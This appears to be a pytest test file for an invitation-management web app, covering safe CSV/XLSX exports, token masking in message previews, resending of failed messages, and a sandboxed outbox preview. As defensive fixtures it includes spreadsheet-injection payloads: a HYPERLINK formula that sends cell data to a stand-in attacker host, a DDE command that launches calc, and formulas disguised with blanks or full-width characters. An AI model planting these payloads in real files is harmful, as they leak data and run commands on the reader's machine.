"""Exports (CSV, XLSX) open in a spreadsheet without running anyone's formula; the outbox
shows, previews and resends messages."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from datetime import datetime

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy.engine import Engine

from roundtable.config import get_settings
from roundtable.db import read_session, write_session
from roundtable.invitations.model import Invitation
from roundtable.invitations.tokens import derive_token
from roundtable.reports.render import INVITEE_COLUMNS
from roundtable.web.app import create_app
from tests.staff.staff_support import (
    add_member,
    client_for,
    message_rows,
    seed_mix,
    signed_in,
)

ADMIN = "admin@un.example.org"
VIEWER = "viewer@un.example.org"
HOSTILE_NOTE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def web(sqlite_engine: Engine) -> Iterator[TestClient]:
    with client_for(create_app()) as client:
        yield client


@pytest.fixture
def client(engine: Engine) -> Iterator[TestClient]:
    with client_for(create_app()) as test_client:
        yield test_client


def _with_hostile_note(invitation_id: int) -> None:
    with write_session() as session:
        invitation = session.get(Invitation, invitation_id)
        assert invitation is not None
        invitation.notes = HOSTILE_NOTE
        session.add(invitation)


def test_the_xlsx_export_has_every_invitee_and_no_formula(web: TestClient) -> None:
    seeded = seed_mix("export", count=12)
    _with_hostile_note(seeded.invitations[0].id)
    add_member(ADMIN, "admin")
    signed_in(web, ADMIN)

    response = web.get("/dashboard/events/export/invitees.xlsx")

    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/vnd.openxmlformats")
    assert 'filename="export-invitees-' in response.headers["content-disposition"]
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == INVITEE_COLUMNS
    assert len(rows) == 1 + 12
    by_email = {row[0]: dict(zip(INVITEE_COLUMNS, row, strict=True)) for row in rows[1:]}
    first = by_email["guest1@example.org"]
    assert first["name"] == "Guest Person 001"
    assert first["organization"] == "Permanent Mission of Italy"
    assert first["status"] == "accepted"
    assert first["guests"] == 1
    # Times are real dates (UTC, as the cell's format says), not text to re-parse.
    assert isinstance(first["attended_at"], datetime)
    assert isinstance(first["invited_at"], datetime)
    time_cell = sheet.cell(row=2, column=INVITEE_COLUMNS.index("invited_at") + 1)
    assert time_cell.is_date and "UTC" in time_cell.number_format
    # Text cells show what was written, no quote: typed as text, they never run.
    assert first["notes"] == HOSTILE_NOTE
    assert by_email["guest8@example.org"]["organization"] == "=cmd|' /C calc'!A0"
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            if isinstance(cell.value, str) and cell.value.startswith("="):
                assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate


def test_the_csv_export_is_excel_friendly_and_inert(web: TestClient) -> None:
    seeded = seed_mix("export", count=12)
    _with_hostile_note(seeded.invitations[0].id)
    add_member(VIEWER, "viewer")  # reading is enough to export
    signed_in(web, VIEWER)

    response = web.get("/dashboard/events/export/invitees.csv")

    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert list(rows[0]) == list(INVITEE_COLUMNS)
    assert len(rows) == 12
    by_email = {row["email"]: row for row in rows}
    assert by_email["guest1@example.org"]["notes"] == "'" + HOSTILE_NOTE
    assert by_email["guest8@example.org"]["organization"] == "'=cmd|' /C calc'!A0"
    assert by_email["guest3@example.org"]["status"] == "declined"
    assert all(not value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())


DISGUISED_FORMULAS = [
    " =1+2",
    '\u00a0=HYPERLINK("http://evil.example")',
    "\u3000+1",
    "\u200b@SUM(A1)",
    "\uff1d1+2",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "\n=1+1",
]


def test_formulas_behind_blanks_or_in_full_width_forms_are_inert_too(web: TestClient) -> None:
    seeded = seed_mix("export", count=len(DISGUISED_FORMULAS))
    notes = {}
    with write_session() as session:
        for seeded_invitation, note in zip(seeded.invitations, DISGUISED_FORMULAS, strict=True):
            invitation = session.get(Invitation, seeded_invitation.id)
            assert invitation is not None
            invitation.notes = note
            notes[seeded_invitation.email] = note
            session.add(invitation)
    add_member(ADMIN, "admin")
    signed_in(web, ADMIN)

    exported = web.get("/dashboard/events/export/invitees.csv").content.decode("utf-8-sig")
    workbook = web.get("/dashboard/events/export/invitees.xlsx").content

    rows = {row["email"]: row for row in csv.DictReader(io.StringIO(exported, newline=""))}
    assert {email: rows[email]["notes"] for email in notes} == {
        email: "'" + note for email, note in notes.items()
    }
    sheet = load_workbook(io.BytesIO(workbook)).active
    assert sheet is not None
    column = INVITEE_COLUMNS.index("notes")
    for line in sheet.iter_rows(min_row=2):
        email, cell = line[0].value, line[column]
        assert cell.value == notes[str(email)], email
        assert cell.data_type == "s" and cell.quotePrefix, email


def test_the_preview_masks_the_invitees_links(web: TestClient) -> None:
    """Staff see where the links lead, not the token: nobody replies as the invitee."""
    seeded = seed_mix("preview", count=5)
    message = next(m for m in seeded.messages if m.status == "sent")
    with read_session() as session:
        invitation = session.get(Invitation, message.invitation_id)
        assert invitation is not None and invitation.token_salt is not None
        token = derive_token(
            get_settings().resolved_secret_key(), message.invitation_id, invitation.token_salt
        )
    add_member(ADMIN, "admin")
    signed_in(web, ADMIN)

    page = web.get(f"/dashboard/messages/{message.id}")
    body = web.get(f"/dashboard/messages/{message.id}/body.html")

    for answer in (page, body):
        assert answer.status_code == 200
        assert token not in answer.text
        assert not re.search(r"/rsvp/[A-Za-z0-9_-]{8,}", answer.text)
    assert "https://rsvp.example.org/rsvp/…" in page.text
    assert "/rsvp/…" in body.text
    assert web.get(f"/rsvp/{token}").status_code == 200  # the link itself still works


def test_resending_a_failed_message_queues_a_new_copy_once(client: TestClient) -> None:
    seeded = seed_mix("resend", count=10)
    failed = next(m for m in seeded.messages if m.status == "failed")
    sent = next(m for m in seeded.messages if m.status == "sent")
    add_member(ADMIN, "admin")
    csrf = signed_in(client, ADMIN)

    page = client.get("/dashboard/events/resend").text
    assert f'action="/dashboard/messages/{failed.id}/resend"' in page
    assert "5.1.1" in page and "550" in page  # the SMTP answer is shown

    response = client.post(
        f"/dashboard/messages/{failed.id}/resend",
        data={"csrf_token": csrf, "next": "/dashboard/events/resend"},
    )

    assert response.status_code == 303
    assert response.headers["location"] == "/dashboard/events/resend?notice=resent"
    rows = message_rows(failed.invitation_id)
    original = next(row for row in rows if row.id == failed.id)
    copy = next(row for row in rows if row.id != failed.id and row.kind == original.kind)
    assert original.status == "failed"
    assert copy.status == "queued"
    assert copy.mailing == f"{original.mailing}#resend1"
    assert copy.attempts == 0

    again = client.post(f"/dashboard/messages/{failed.id}/resend", data={"csrf_token": csrf})
    assert again.status_code == 409
    assert len(message_rows(failed.invitation_id)) == len(rows)
    not_failed = client.post(f"/dashboard/messages/{sent.id}/resend", data={"csrf_token": csrf})
    assert not_failed.status_code == 409
    assert "only a failed message" in not_failed.text


def test_the_outbox_previews_the_message_as_the_worker_would_send_it(web: TestClient) -> None:
    seeded = seed_mix("preview", count=5)
    invitation = next(m for m in seeded.messages if m.status == "sent")
    add_member(ADMIN, "admin")
    add_member(VIEWER, "viewer")
    signed_in(web, ADMIN)

    outbox = web.get("/dashboard/events/preview/messages")
    assert outbox.status_code == 200
    assert outbox.text.count('href="/dashboard/messages/') == len(seeded.messages)
    assert web.get("/dashboard/messages?status=failed").text.count("<tr>") == 1 + sum(
        1 for m in seeded.messages if m.status == "failed"
    )

    page = web.get(f"/dashboard/messages/{invitation.id}")
    assert page.status_code == 200
    assert 'id="text-part"' in page.text
    assert "https://rsvp.example.org/rsvp/" in page.text  # the invitee's link, in the text part
    assert f'src="/dashboard/messages/{invitation.id}/body.html"' in page.text
    assert "<iframe" in page.text and 'sandbox="' in page.text

    body = web.get(f"/dashboard/messages/{invitation.id}/body.html")
    assert body.status_code == 200
    assert body.headers["content-type"].startswith("text/html")
    policy = body.headers["content-security-policy"]
    assert "sandbox" in policy and "default-src 'none'" in policy and "script-src" not in policy
    assert body.headers["x-frame-options"] == "SAMEORIGIN"
    assert body.headers["cache-control"] == "no-store"
    assert "<html" in body.text.lower()

    web.cookies.clear()
    signed_in(web, VIEWER)
    hidden = web.get(f"/dashboard/messages/{invitation.id}")
    assert hidden.status_code == 200
    assert "/rsvp/" not in hidden.text  # a viewer may not act as the invitee
    assert web.get(f"/dashboard/messages/{invitation.id}/body.html").status_code == 403
